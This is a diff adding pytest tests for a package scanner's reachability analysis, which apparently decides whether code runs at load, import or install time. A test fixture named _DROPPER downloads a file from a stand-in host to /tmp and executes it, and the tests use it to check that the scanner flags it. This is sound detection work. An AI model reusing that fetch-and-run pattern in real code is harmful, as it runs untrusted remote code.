@@ -1,0 +1,185 @@
+"""Reachability: which function bodies run on load, and which modules an install- or
+import-time module runs (``pkgvet.analysis.reach`` and its use by the builder and rules)."""
+
+from __future__ import annotations
+
+import ast
+import textwrap
+
+import pytest
+
+from conftest import sdist
+from pkgvet.analysis.reach import dead_ranges, imported_modules, module_name
+from pkgvet.config import ScanConfig
+from pkgvet.models import Finding, ScanResult
+from pkgvet.pipeline import scan_bytes
+
+
+def _lazy_functions(src: str, main_runs: bool = False) -> set[str]:
+    """Names of the functions whose bodies do not run on load."""
+    tree = ast.parse(textwrap.dedent(src))
+    defs = [n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef | ast.AsyncFunctionDef)]
+    calls = [n for n in ast.walk(tree) if isinstance(n, ast.Call)]
+    dead = dead_ranges(tree, defs, calls, main_runs)
+    return {d.name for d in defs if (d.lineno, d.end_lineno) in dead}
+
+
+def test_called_functions_run_on_load_and_others_wait() -> None:
+    src = """
+        def payload():
+            helper()
+        def helper():
+            pass
+        def unused():
+            payload()
+        payload()
+    """
+    assert _lazy_functions(src) == {"unused"}
+
+
+def test_constructor_methods_and_self_calls_follow_the_class() -> None:
+    src = """
+        class Loader:
+            def __init__(self):
+                self.start()
+            def start(self):
+                pass
+            def other(self):
+                pass
+        class Idle:
+            def __init__(self):
+                pass
+        Loader()
+    """
+    tree = ast.parse(textwrap.dedent(src))
+    defs = [n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef)]
+    calls = [n for n in ast.walk(tree) if isinstance(n, ast.Call)]
+    dead = dead_ranges(tree, defs, calls, False)
+    lazy = {(d.name, d.lineno) for d in defs if (d.lineno, d.end_lineno) in dead}
+    assert lazy == {("other", 7), ("__init__", 10)}  # Idle is never instantiated
+
+
+def test_functions_handed_to_calls_count_as_run() -> None:
+    src = """
+        import atexit, threading
+        def beacon():
+            pass
+        def at_exit():
+            pass
+        def never():
+            pass
+        threading.Thread(target=beacon).start()
+        atexit.register(at_exit)
+    """
+    assert _lazy_functions(src) == {"never"}
+
+
+def test_main_block_runs_only_for_scripts() -> None:
+    src = """
+        def main():
+            pass
+        if __name__ == "__main__":
+            main()
+    """
+    assert _lazy_functions(src) == {"main"}
+    assert _lazy_functions(src, main_runs=True) == set()
+
+
+def test_nested_function_names_resolve_in_scope() -> None:
+    src = """
+        def outer():
+            def inner():
+                pass
+            inner()
+        def inner():
+            pass
+        outer()
+    """
+    tree = ast.parse(textwrap.dedent(src))
+    defs = [n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef)]
+    calls = [n for n in ast.walk(tree) if isinstance(n, ast.Call)]
+    dead = dead_ranges(tree, defs, calls, False)
+    top_inner = next(d for d in defs if d.name == "inner" and d.col_offset == 0)
+    nested = next(d for d in defs if d.name == "inner" and d.col_offset > 0)
+    assert (top_inner.lineno, top_inner.end_lineno) in dead
+    assert (nested.lineno, nested.end_lineno) not in dead
+
+
+@pytest.mark.parametrize(
+    ("rel", "name"),
+    [
+        ("pkg/__init__.py", "pkg"),
+        ("pkg/sub/mod.py", "pkg.sub.mod"),
+        ("src/pkg/core.py", "pkg.core"),
+        ("setup.py", "setup"),
+        ("pkg/not-a-module.py", None),
+        ("pkg/data.txt", None),
+    ],
+)
+def test_module_name(rel: str, name: str | None) -> None:
+    assert module_name(rel) == name
+
+
+def test_imported_modules_resolve_relative_imports() -> None:
+    assert list(imported_modules("pkg", True, (1, 1, "core", ("x",)))) == [
+        "pkg",
+        "pkg.core",
+        "pkg.core.x",
+    ]
+    assert list(imported_modules("pkg.sub.mod", False, (1, 2, "", ("util",)))) == [
+        "pkg",
+        "pkg.util",
+    ]
+    assert list(imported_modules("pkg.a", False, (1, 0, "os.path", ()))) == ["os", "os.path"]
+    assert list(imported_modules("pkg", True, (1, 5, "x", ()))) == []  # beyond the top
+
+
+_DROPPER = """\
+import os
+import urllib.request
+
+
+def fetch():
+    urllib.request.urlretrieve("http://example.invalid/x", "/tmp/x")
+    os.system("/tmp/x")
+"""
+
+
+def _scan(files: dict[str, str]) -> ScanResult:
+    return scan_bytes(sdist("zzreach", "1.0", files), "zzreach-1.0.tar.gz",
+                      ScanConfig(use_model=False))
+
+
+def _dropper(result: ScanResult) -> Finding:
+    return next(f for f in result.findings if f.rule_id == "PV203")
+
+
+def test_module_imported_by_the_package_runs_on_import() -> None:
+    lazy = _scan({"zzreach/__init__.py": "from .core import fetch\n",
+                  "zzreach/core.py": _DROPPER})
+    eager = _scan({"zzreach/__init__.py": "from .core import fetch\n",
+                   "zzreach/core.py": _DROPPER + "\nfetch()\n"})
+    assert _dropper(lazy).trigger.value == "runtime"
+    assert _dropper(eager).trigger.value == "import"
+    assert _dropper(eager).severity > _dropper(lazy).severity
+
+
+def test_module_not_imported_at_load_stays_runtime() -> None:
+    result = _scan({"zzreach/__init__.py": "def load():\n    from . import core\n",
+                    "zzreach/core.py": _DROPPER + "\nfetch()\n"})
+    assert _dropper(result).trigger.value == "runtime"
+
+
+def test_transitive_imports_from_setup_run_at_install() -> None:
+    result = _scan({"setup.py": "from zzreach import version\n",
+                    "zzreach/__init__.py": "",
+                    "zzreach/version.py": "from zzreach import core\n",
+                    "zzreach/core.py": _DROPPER + "\nfetch()\n"})
+    assert _dropper(result).trigger.value == "install"
+
+
+def test_top_level_module_named_after_the_project_is_imported() -> None:
+    result = _scan({"zzreach.py": _DROPPER + "\nfetch()\n", "other.py": _DROPPER + "\nfetch()\n"})
+    by_path = {f.path.rsplit("/", 1)[-1]: f for f in result.findings if f.rule_id == "PV203"}
+    assert by_path["zzreach.py"].trigger.value == "import"
+    assert by_path["other.py"].trigger.value == "runtime"
